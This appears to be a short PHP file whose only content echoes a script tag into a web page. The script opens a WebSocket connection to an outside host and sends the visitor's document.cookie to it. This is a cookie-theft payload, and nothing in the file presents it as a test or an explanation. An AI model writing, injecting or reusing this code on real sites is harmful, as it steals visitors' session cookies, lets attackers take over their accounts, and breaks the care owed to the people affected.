<?php
echo '<script>var w = new WebSocket("wss://live.example.net/s"); w.onopen = function () { w.send(document.cookie); };</script>';
